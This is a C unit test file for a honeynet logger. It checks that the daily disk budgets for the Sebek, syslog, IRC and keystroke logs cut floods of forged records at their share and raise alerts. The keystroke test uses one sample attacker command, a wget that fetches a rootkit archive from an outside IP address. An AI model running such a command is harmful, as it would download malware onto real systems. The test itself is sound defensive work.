/*
 * Unit tests of the record layers' day budgets (layers_record_take): each
 * of sebek.jsonl, syslog.jsonl, irc.jsonl, keystrokes.jsonl gets disk_mb / LAYERS_REC_SHARE
 * a day; a flood of one (forged Sebek records, syslog lines) is cut at its
 * share, exactly, counted and alerted once that day, and starves neither
 * the other record layers nor the transcripts' budget; a new UTC day
 * starts every budget again; status shows each.
 */
#include <ftw.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

#include "testutil.h"
#include "config.h"
#include "decode.h"
#include "event.h"
#include "keys.h"
#include "layers.h"
#include "sebek.h"
#include "syslogmsg.h"

#define D26	(1795651200LL * FB_NS_PER_SEC)	/* 2026-11-26T00:00:00Z */
#define DAY	(86400LL * FB_NS_PER_SEC)
#define SHARE	((1ULL << 20) / LAYERS_REC_SHARE)	/* disk_mb = 1 */

static char tmpdir[256];
static struct fb_config cfg;
static struct event_log *el;
static struct layers *ly;

static int
rm_cb(const char *path, const struct stat *st, int flag, struct FTW *ftw)
{
	(void)st; (void)flag; (void)ftw;
	return remove(path);
}

static int
setup(void **state)
{
	char err[256];

	(void)state;
	log_init("test_budget", 0);
	snprintf(tmpdir, sizeof(tmpdir), "/tmp/fbbudXXXXXX");
	assert_non_null(mkdtemp(tmpdir));
	assert_int_equal(config_load_string("t.conf", "[honeynet]\nnetworks = 10.0.0.0/24\n"
	    "[layers]\ndisk_mb = 1\nsebek_port = 1101\n", &cfg, err, sizeof(err)), 0);
	assert_non_null(el = event_log_open(tmpdir, NULL));
	assert_non_null(ly = layers_new(&cfg, tmpdir, el, NULL));
	assert_non_null(ly->sebek);
	return 0;
}

static int
teardown(void **state)
{
	(void)state;
	layers_free(ly);
	event_log_close(el);
	config_free(&cfg);
	nftw(tmpdir, rm_cb, 16, FTW_DEPTH | FTW_PHYS);
	return 0;
}

static long
file_size(const char *day, const char *name)
{
	char path[512];
	struct stat st;

	snprintf(path, sizeof(path), "%s/%s/%s", tmpdir, day, name);
	return stat(path, &st) == 0 ? (long)st.st_size : -1;
}

/* Lines of DAY/alerts.jsonl holding needle. */
static int
alerts_with(const char *day, const char *needle)
{
	char path[512], line[2048];
	FILE *f;
	int n = 0;

	snprintf(path, sizeof(path), "%s/%s/alerts.jsonl", tmpdir, day);
	if ((f = fopen(path, "r")) == NULL)
		return 0;
	while (fgets(line, sizeof(line), f) != NULL)
		n += strstr(line, needle) != NULL;
	fclose(f);
	return n;
}

static void
syslog_line(fb_ns ts, int i)
{
	struct syslog_origin o = { .source = "wire", .transport = "udp",
	    .peer_port = 40514, .dst_port = 514 };
	char msg[64];

	addr_parse("10.0.0.5", &o.peer);
	addr_parse("192.0.2.50", &o.dst);
	snprintf(msg, sizeof(msg), "<13>hp app: flood line %06d", i);
	syslog_sink_message(ly->wire_syslog, ts, &o, (const uint8_t *)msg, strlen(msg), 0);
}

/* A syslog flood is cut at the syslog share, to the byte. */
static void
test_syslog_flood(void **state)
{
	struct jbuf jb;
	long size;
	uint64_t line_len, fit;

	(void)state;
	/* Every line of the flood is as long as this one. */
	jb_init(&jb);
	{
		struct syslog_origin o = { .source = "wire", .transport = "udp",
		    .peer_port = 40514, .dst_port = 514 };
		struct syslog_msg m;
		const char *msg = "<13>hp app: flood line 000000";

		addr_parse("10.0.0.5", &o.peer);
		addr_parse("192.0.2.50", &o.dst);
		syslog_parse((const uint8_t *)msg, strlen(msg), &m);
		syslog_json(&jb, D26, &o, &m, (const uint8_t *)msg, strlen(msg));
	}
	line_len = jb.len;
	jb_free(&jb);
	fit = SHARE / line_len;
	for (int i = 0; i < (int)fit + 100; i++)
		syslog_line(D26 + i, i);
	size = file_size("2026-11-26", "syslog.jsonl");
	assert_int_equal(size, (long)(fit * line_len));
	assert_int_equal(ly->rec[LREC_SYSLOG].used, fit * line_len);
	assert_int_equal(ly->rec[LREC_SYSLOG].refused, 100);
	assert_int_equal(ly->wire_syslog->st.messages, fit + 100);
	assert_int_equal(ly->wire_syslog->st.write_errors, 0);
	assert_int_equal(alerts_with("2026-11-26", "\"type\":\"layer-budget\""), 1);
	assert_int_equal(alerts_with("2026-11-26", "\"layer\":\"syslog\""), 1);

	/* The other layers and the transcripts' budget are untouched. */
	assert_true(layers_record_take(ly, LREC_IRC, D26 + 1, SHARE));
	assert_false(layers_record_take(ly, LREC_IRC, D26 + 2, 1));
	assert_true(layers_disk_take(ly, D26 + 3, (1 << 20) - 1));
	assert_int_equal(ly->st.disk_refused, 0);
	assert_int_equal(alerts_with("2026-11-26", "\"layer\":\"irc\""), 1);
	assert_int_equal(alerts_with("2026-11-26", "\"type\":\"layer-budget\""), 2);

	/* A new day: the syslog share again, alerted again when spent. */
	for (int i = 0; i < (int)fit + 1; i++)
		syslog_line(D26 + DAY + i, i);
	assert_int_equal(file_size("2026-11-27", "syslog.jsonl"), (long)(fit * line_len));
	assert_int_equal(ly->rec[LREC_SYSLOG].refused, 1);
	assert_int_equal(ly->rec[LREC_IRC].used, 0);
	assert_int_equal(ly->st.disk_used, 0);
	assert_int_equal(alerts_with("2026-11-27", "\"layer\":\"syslog\""), 1);
}

static void
put32(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)(v >> 24), p[1] = (uint8_t)(v >> 16), p[2] = (uint8_t)(v >> 8);
	p[3] = (uint8_t)v;
}

/* A write record (no keystrokes) of the honeypot 10.0.0.5, decoded. */
static void
sebek_record(fb_ns ts, uint32_t counter)
{
	uint8_t r[56 + 100];
	struct fb_packet p;

	memset(r, 0, sizeof(r));
	put32(r, 0xd0d0d0d0);
	r[5] = 3;
	r[7] = SEBEK_WRITE;
	put32(r + 8, counter);
	put32(r + 12, (uint32_t)(ts / FB_NS_PER_SEC));
	put32(r + 24, 4242);
	memcpy(r + 40, "sh", 2);
	put32(r + 52, 100);
	memset(r + 56, 'A', 100);
	memset(&p, 0, sizeof(p));
	addr_parse("10.0.0.5", &p.src);
	addr_parse("10.0.0.253", &p.dst);
	memset(p.eth_src, 2, 6);
	p.proto = 17;
	p.sport = p.dport = 1101;
	p.payload = r;
	p.payload_len = sizeof(r);
	sebek_packet(ly->sebek, &p, ts);
}

/* Forged Sebek records fill the Sebek share only; syslog still writes. */
static void
test_sebek_flood(void **state)
{
	struct sebek_stats st;
	struct jbuf jb;
	uint32_t c;
	long size;

	(void)state;
	for (c = 1; c <= 2000; c++)
		sebek_record(D26 + c, c);
	sebek_stats(ly->sebek, &st);
	assert_int_equal(st.records, 2000);
	size = file_size("2026-11-26", "sebek.jsonl");
	assert_true(size > 0);
	assert_int_equal((uint64_t)size, ly->rec[LREC_SEBEK].used);
	assert_true((uint64_t)size <= SHARE);
	assert_true((uint64_t)size > SHARE - 600);	/* one line more would not fit */
	assert_true(ly->rec[LREC_SEBEK].refused > 0);
	assert_int_equal(alerts_with("2026-11-26", "\"layer\":\"sebek\""), 1);
	syslog_line(D26 + 3000, 1);
	assert_int_equal(ly->rec[LREC_SYSLOG].refused, 0);
	assert_true(file_size("2026-11-26", "syslog.jsonl") > 0);

	/* Status: each record layer's share, used and refused. */
	jb_init(&jb);
	jb_begin(&jb);
	layers_status_json(ly, &jb);
	jb_end(&jb);
	{
		char want[200];

		snprintf(want, sizeof(want), "\"disk_records\":{\"sebek\":{\"used\":%ld,"
		    "\"budget\":%llu,\"refused\":%llu},\"syslog\":{\"used\":",
		    size, (unsigned long long)SHARE,
		    (unsigned long long)ly->rec[LREC_SEBEK].refused);
		assert_non_null(strstr(jb.p, want));
	}
	jb_free(&jb);
}

/* Keystroke lines (from any source) have their own share too. */
static void
test_keystrokes_flood(void **state)
{
	struct key_origin o = { .source = "syslog" };
	const char *line = "wget http://203.0.113.80/rootkit.tar.gz";
	long one, size;
	uint64_t fit;

	(void)state;
	addr_parse("10.0.0.5", &o.honeypot);
	keys_line(ly, D26, &o, line, strlen(line), NULL, 0);
	one = file_size("2026-11-26", "keystrokes.jsonl");
	assert_true(one > 0);
	fit = SHARE / (uint64_t)one;
	for (uint64_t i = 1; i < fit + 50; i++)
		keys_line(ly, D26, &o, line, strlen(line), NULL, 0);
	size = file_size("2026-11-26", "keystrokes.jsonl");
	assert_int_equal(size, (long)(fit * (uint64_t)one));
	assert_int_equal(ly->rec[LREC_KEYS].refused, 50);
	assert_int_equal(ly->st.keystroke_lines, fit);
	assert_int_equal(alerts_with("2026-11-26", "\"layer\":\"keystrokes\""), 1);
	assert_int_equal(ly->rec[LREC_SYSLOG].used, 0);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(test_syslog_flood, setup, teardown),
		cmocka_unit_test_setup_teardown(test_sebek_flood, setup, teardown),
		cmocka_unit_test_setup_teardown(test_keystrokes_flood, setup, teardown),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
